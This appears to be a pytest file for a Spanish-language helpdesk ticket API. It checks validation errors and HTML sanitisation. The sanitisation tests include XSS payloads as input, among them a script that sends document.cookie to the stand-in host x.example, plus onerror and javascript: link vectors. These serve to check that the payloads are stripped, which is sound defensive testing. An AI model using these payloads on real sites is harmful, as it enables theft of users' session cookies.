"""Bad input gets a precise 4xx and writes nothing; HTML loses its scripts and keeps
the rest."""

from __future__ import annotations

import pytest

from atiende.tickets import services
from atiende.tickets.models import Category, CustomField, Event, Kind, Ticket
from tests.api.support import field_errors, problem, send
from tests.tickets_api.support import if_match, tickets_state


@pytest.fixture
def ana(cast):
    return cast["agent_ana"]


@pytest.fixture
def nomina(hr):
    """A category of Café Montaña's HR."""
    return Category.objects.create(department=hr, name="Nómina")


def _creation(ids: dict, **changes) -> dict:
    body = {"kind": "incident", "title": "Sin red en caja 2", "department_id": ids["it"],
            "requester_id": ids["carla"]}
    body.update(changes)
    return {name: value for name, value in body.items() if value is not ...}


@pytest.fixture
def ids(it, cast, impresoras, nomina, team_nomina, team_redes, incident):
    return {"it": it.pk, "carla": cast["requester_carla"].pk, "impresoras": impresoras.pk,
            "nomina": nomina.pk, "team_nomina": team_nomina.pk, "team_redes": team_redes.pk,
            "bruno": cast["agent_bruno_other_department"].pk,
            "other_requester": cast["requester_other_org"].pk}


# --- creating ----------------------------------------------------------------------------


@pytest.mark.parametrize(("role", "changes", "status", "code", "fields"), [
    ("agent_ana", {"title": ...}, 422, "validation_failed", [("title", "missing")]),
    ("agent_ana", {"title": "   "}, 422, "required", [("title", "required")]),
    ("agent_ana", {"title": "x" * 201}, 422, "validation_failed",
     [("title", "string_too_long")]),
    ("agent_ana", {"title": "Hola\x00"}, 422, "validation_failed",
     [("title", "nul_character")]),
    ("agent_ana", {"kind": "change"}, 422, "invalid_choice", [("kind", "invalid_choice")]),
    ("agent_ana", {"channel": "fax"}, 422, "invalid_choice", [("channel", "invalid_choice")]),
    ("agent_ana", {"impact": 7}, 422, "invalid_choice", [("impact", "invalid_choice")]),
    ("agent_ana", {"impact": True}, 422, "validation_failed", [("impact", "int_type")]),
    ("agent_ana", {"category_id": 987654}, 422, "unknown_category",
     [("category_id", "unknown_category")]),
    ("agent_ana", {"category_id": "{nomina}"}, 422, "unknown_category",
     [("category_id", "unknown_category")]),
    ("admin", {"category_id": "{nomina}"}, 422, "category_other_department",
     [("category_id", "category_other_department")]),
    ("agent_ana", {"category_id": True}, 422, "validation_failed",
     [("category_id", "int_type")]),
    ("agent_ana", {"category_id": 10**30}, 422, "validation_failed",
     [("category_id", "less_than_equal")]),
    ("agent_ana", {"assignee_id": 10**30}, 422, "validation_failed",
     [("assignee_id", "less_than_equal")]),
    ("agent_ana", {"parent": "INC-1\x00"}, 422, "validation_failed",
     [("parent", "nul_character")]),
    ("agent_ana", {"tags": ["red\x00"]}, 422, "nul_character", [("tags", "nul_character")]),
    ("agent_ana", {"assignee_id": "{bruno}"}, 422, "assignee_other_department",
     [("assignee_id", "assignee_other_department")]),
    ("admin", {"team_id": "{team_nomina}"}, 422, "team_other_department",
     [("team_id", "team_other_department")]),
    ("agent_ana", {"team_id": "{team_nomina}"}, 422, "unknown_team",
     [("team_id", "unknown_team")]),
    ("agent_ana", {"requester_id": "{other_requester}"}, 422, "unknown_user",
     [("requester_id", "unknown_user")]),
    ("agent_ana", {"parent": "INC-999999"}, 422, "unknown_ticket",
     [("parent", "unknown_ticket")]),
    ("agent_ana", {"custom_fields": {"placa": "A-1"}}, 422, "invalid_custom_field",
     [("custom_fields.placa", "invalid_custom_field")]),
    ("agent_ana", {"priority": 1}, 422, "validation_failed", [("priority", "extra_forbidden")]),
    ("agent_ana", {"status": "closed"}, 422, "validation_failed",
     [("status", "extra_forbidden")]),
    ("agent_ana", {"department_id": 987654}, 404, "not_found", None),
    ("requester_carla", {"requester_id": ...}, 201, None, None),
])
def test_a_bad_creation_is_refused_and_writes_nothing(role, changes, status, code, fields, cast,
                                                      ids, api_client):
    # given
    client = api_client(cast[role])
    changes = {name: value.format(**ids) if isinstance(value, str) and "{" in value else value
               for name, value in changes.items()}
    changes = {name: int(value) if isinstance(value, str) and value.isdigit() else value
               for name, value in changes.items()}
    before = tickets_state()

    # when
    response = send(client, "POST", "/tickets", _creation(ids, **changes))

    # then
    if status == 201:
        assert response.status_code == 201, response.content
        return
    body = problem(response, status, code)
    if fields is not None:
        assert field_errors(body) == fields
    assert tickets_state() == before


def test_a_required_custom_field_must_be_filled(ana, ids, it, api_client):
    # given
    CustomField.objects.create(department=it, key="placa", label="Placa del equipo",
                               field_type="text", is_required=True)
    before = tickets_state()

    # when
    missing = send(api_client(ana), "POST", "/tickets", _creation(ids))
    given = send(api_client(ana), "POST", "/tickets",
                 _creation(ids, custom_fields={"placa": "CM-0042"}))

    # then
    assert field_errors(problem(missing, 422, "invalid_custom_field")) == [
        ("custom_fields.placa", "invalid_custom_field")]
    assert given.status_code == 201 and given.json()["custom_fields"] == {"placa": "CM-0042"}
    assert len(tickets_state()["tickets"]) == len(before["tickets"]) + 1


@pytest.mark.parametrize("body", ["{", "[]", '"hola"', ""])
def test_a_body_that_is_not_a_json_object_is_refused(body, ana, api_client):
    # when
    response = send(api_client(ana), "POST", "/tickets", body)

    # then
    assert response.status_code in (400, 422)
    assert response["Content-Type"] == "application/problem+json"
    assert not Ticket.objects.filter(number="INC-000002").exists()


def test_scripts_are_removed_from_the_description_and_the_rest_is_kept(ana, ids, api_client):
    # when
    response = send(api_client(ana), "POST", "/tickets", _creation(
        ids, description='<p onmouseover="robar()">Se apagó <b>el switch</b>'
                         '<script>fetch("//x.example/?c="+document.cookie)</script></p>'
                         '<img src="x" onerror="alert(1)">'))

    # then
    assert response.status_code == 201, response.content
    assert response.json()["description"] == '<p>Se apagó <b>el switch</b></p><img src="x">'


def test_scripts_are_removed_from_an_edited_description_and_a_comment(ana, incident,
                                                                     api_client):
    # given
    client = api_client(ana)

    # when
    edited = send(client, "PATCH", f"/tickets/{incident.number}",
                  {"description": "<p>Hoja <i>en blanco</i><script>x()</script></p>"},
                  **if_match(1))
    comment = send(client, "POST", f"/tickets/{incident.number}/comments",
                   {"body": '<a href="javascript:x()">aquí</a> <b>listo</b><style>*{}</style>'})

    # then
    assert edited.json()["description"] == "<p>Hoja <i>en blanco</i></p>"
    assert comment.json()["body"] == '<a rel="noopener noreferrer nofollow">aquí</a> <b>listo</b>'


# --- changing ----------------------------------------------------------------------------


@pytest.mark.parametrize(("request_line", "body", "status", "code", "fields"), [
    ("PATCH /tickets/{inc}", {"title": ""}, 422, "required", [("title", "required")]),
    ("PATCH /tickets/{inc}", {"title": None}, 422, "validation_failed",
     [("title", "string_type")]),
    ("PATCH /tickets/{inc}", {"number": "INC-000009"}, 422, "validation_failed",
     [("number", "extra_forbidden")]),
    ("PATCH /tickets/{inc}", {"status": "closed"}, 422, "validation_failed",
     [("status", "extra_forbidden")]),
    ("PATCH /tickets/{inc}", {"category_id": 987654}, 422, "unknown_category",
     [("category_id", "unknown_category")]),
    ("PATCH /tickets/{inc}", {"urgency": 0}, 422, "invalid_choice",
     [("urgency", "invalid_choice")]),
    ("PATCH /tickets/{inc}", {"parent": "INC-000001"}, 422, "invalid_parent",
     [("parent", "invalid_parent")]),
    ("PATCH /tickets/{inc}", {"tags": ["x" * 51]}, 422, "validation_failed",
     [("tags.0", "string_too_long")]),
    ("POST /tickets/{inc}/transitions", {"status": "closed"}, 409, "transition_not_allowed",
     None),
    ("POST /tickets/{inc}/transitions", {"status": "archivado"}, 422, "invalid_choice",
     [("status", "invalid_choice")]),
    ("POST /tickets/{inc}/transitions", {"status": "pending"}, 422, "pending_reason",
     [("pending_reason", "pending_reason")]),
    ("POST /tickets/{inc}/transitions", {"status": "resolved"}, 422, "resolution_required",
     [("resolution_code", "resolution_required"), ("resolution_notes", "resolution_required")]),
    ("POST /tickets/{inc}/transitions", {"status": "resolved", "resolution_code": "magia",
                                         "resolution_notes": "Listo"}, 422,
     "resolution_required", [("resolution_code", "resolution_required")]),
    ("POST /tickets/{inc}/assignment", {"assignee_id": "{bruno}"}, 422,
     "assignee_other_department", [("assignee_id", "assignee_other_department")]),
    ("POST /tickets/{inc}/assignment", {"team_id": "{team_redes}", "assignee_id": "{nico}"},
     422, "assignee_not_in_team", [("assignee_id", "assignee_not_in_team")]),
    ("POST /tickets/{inc}/assignment", {"team_id": 987654}, 422, "unknown_team",
     [("team_id", "unknown_team")]),
    ("POST /tickets/{inc}/escalations", {}, 422, "required", [("reason", "required")]),
    ("POST /tickets/{inc}/priority", {"priority": 1}, 422, "required", [("reason", "required")]),
    ("POST /tickets/{inc}/priority", {"priority": 1, "reason": "  "}, 422, "required",
     [("reason", "required")]),
    ("POST /tickets/{inc}/priority", {"priority": 6, "reason": "Urgente"}, 422,
     "invalid_choice", [("priority", "invalid_choice")]),
    ("POST /tickets/{inc}/priority", {"priority": "1", "reason": "Urgente"}, 422,
     "validation_failed", [("priority", "int_type")]),
    ("POST /tickets/{inc}/comments", {"body": ""}, 422, "required", [("body", "required")]),
    ("POST /tickets/{inc}/comments", {"body": "<script>x()</script>"}, 422, "required",
     [("body", "required")]),
    ("POST /tickets/{inc}/comments", {"body": "Hola", "visibility": "secreta"}, 422,
     "invalid_choice", [("visibility", "invalid_choice")]),
    ("POST /tickets/{inc}/watchers", {"user_id": "{other_requester}"}, 422, "unknown_user",
     [("user_id", "unknown_user")]),
    ("POST /tickets/{inc}/links", {"number": "INC-000001"}, 422, "link_itself",
     [("target", "link_itself")]),
    ("POST /tickets/{inc}/links", {"number": "INC-999999"}, 422, "unknown_ticket",
     [("number", "unknown_ticket")]),
    ("POST /tickets/{inc}/links", {"number": "INC-000002", "kind": "hermano"}, 422,
     "invalid_choice", [("kind", "invalid_choice")]),
    ("POST /tickets/{inc}/merge", {"duplicates": []}, 422, "validation_failed",
     [("duplicates", "too_short")]),
    ("POST /tickets/{inc}/merge", {"duplicates": ["INC-000001"]}, 422, "merge_not_allowed",
     [("duplicates", "merge_not_allowed")]),
    ("POST /tickets/{inc}/merge", {"duplicates": ["INC-999999"]}, 422, "unknown_ticket",
     [("duplicates", "unknown_ticket")]),
])
def test_a_bad_change_is_refused_and_writes_nothing(request_line, body, status, code, fields,
                                                    admin, ids, agent_nico, incident, it,
                                                    org_cafe, requester_diego, api_client):
    # given: an admin (allowed everything on the ticket), a second ticket INC-000002
    services.ticket_create(actor=admin, kind=Kind.INCIDENT, title="Otro", organization=org_cafe,
                           department=it, requester=requester_diego)
    values = {**ids, "nico": agent_nico.pk, "inc": incident.number}
    body = {name: int(value.format(**values)) if isinstance(value, str) and "{" in value
            else value for name, value in body.items()}
    method, path = request_line.split(" ", 1)
    before = tickets_state()

    # when
    response = send(api_client(admin), method, path.format(**values), body, **if_match(1))

    # then
    problem_body = problem(response, status, code)
    if fields is not None:
        assert field_errors(problem_body) == fields
    assert tickets_state() == before


def test_a_closed_ticket_cannot_be_edited(admin, incident, api_client):
    # given
    client = api_client(admin)
    send(client, "POST", f"/tickets/{incident.number}/transitions", {"status": "cancelled"},
         **if_match(1))
    before = tickets_state()

    # when
    response = send(client, "PATCH", f"/tickets/{incident.number}", {"title": "Otra cosa"},
                    **if_match(2))

    # then
    problem(response, 409, "ticket_final")
    assert tickets_state() == before


@pytest.mark.parametrize(("method", "path"), [
    ("GET", "/tickets/INC-1%00"), ("GET", "/tickets/" + "9" * 30),
    ("GET", "/tickets/INC-000001/comments/abc"),
    ("PATCH", "/tickets/INC-000001/comments/99999999999999999999999"),
    ("DELETE", "/tickets/INC-000001/comments/-1"),
    ("DELETE", "/tickets/INC-000001/watchers/99999999999999999999999"),
    ("DELETE", "/tickets/INC-000001/links/99999999999999999999999"),
    ("POST", "/tickets/INC-1%00/comments"),
])
def test_odd_paths_are_a_4xx(method, path, ana, incident, api_client):
    # when
    response = send(api_client(ana), method, path, {"body": "Hola"} if method != "GET"
                    else None)

    # then
    assert response.status_code in (404, 405, 422)
    assert response["Content-Type"] == "application/problem+json"
    assert Event.objects.count() == 1
